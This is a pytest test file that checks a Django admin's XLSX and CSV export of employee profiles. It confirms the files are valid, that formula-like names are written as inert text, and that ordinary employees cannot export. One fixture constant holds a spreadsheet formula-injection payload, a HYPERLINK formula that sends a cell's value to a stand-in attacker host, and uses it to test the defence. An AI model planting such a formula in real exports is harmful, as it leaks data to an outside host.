"""The employee profile list as XLSX and CSV in the admin: a valid file, names as inert text."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from tests.admin_access import assert_sent_to_admin_login
from tests.factories.people import EmployeeProfileFactory, TeamFactory, UserFactory

pytestmark = pytest.mark.django_db

URL = "/admin/employee_profiles/"
ATTACK = '=HYPERLINK("https://evil.example/?d="&B3,"Klik hier")'
HEADINGS = ["Naam", "E-mail", "Team", "Functie", "Leidinggevende", "Startdatum"]


@pytest.fixture
def profiles(db):
    leader = UserFactory(username="chef", first_name="Karin", last_name="de Wit")
    team = TeamFactory(name="Team Financiën")
    EmployeeProfileFactory(
        user=UserFactory(username="a.bakker", first_name="Anna", last_name="Bakker"),
        team=team,
        job_title="Beleidsmedewerker",
        team_leader=leader,
        start_date=datetime.date(2024, 1, 15),
    )
    # A name as the employee import could bring it in.
    EmployeeProfileFactory(
        user=UserFactory(username="z.formule", first_name=ATTACK, last_name=""),
        team=None,
        job_title="-2+3",
    )


def rows_by_name(rows):
    return {row[0]: row for row in rows[1:]}


def test_xlsx_export_is_a_valid_file_with_every_profile(editor_client, profiles):
    response = editor_client.get(URL, {"export": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert 'filename="people_employeeprofile.xlsx"' in response["Content-Disposition"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == HEADINGS
    anna = rows_by_name(rows)["Anna Bakker"]
    assert anna[1:5] == ["a.bakker@westbetuwe.nl", "Team Financiën", "Beleidsmedewerker", "Karin de Wit"]
    assert anna[5] == datetime.datetime(2024, 1, 15)


def test_xlsx_export_writes_formula_like_values_as_inert_text(editor_client, profiles):
    response = editor_client.get(URL, {"export": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    (row,) = [row for row in sheet.iter_rows(min_row=2) if row[0].value == ATTACK]
    for cell in (row[0], row[3]):
        assert cell.data_type == "s"
        assert cell.quotePrefix is True
    assert row[3].value == "-2+3"


def test_csv_export_is_a_valid_file_with_formula_like_values_quoted(editor_client, profiles):
    response = editor_client.get(URL, {"export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == HEADINGS
    by_name = rows_by_name(rows)
    assert by_name["Anna Bakker"] == [
        "Anna Bakker",
        "a.bakker@westbetuwe.nl",
        "Team Financiën",
        "Beleidsmedewerker",
        "Karin de Wit",
        "2024-01-15",
    ]
    assert by_name["'" + ATTACK][3] == "'-2+3"


def test_employees_cannot_export_the_profiles(employee_client, profiles):
    response = employee_client.get(URL, {"export": "csv"})

    assert_sent_to_admin_login(response, URL + "?export=csv")
    assert b"Anna Bakker" not in response.content
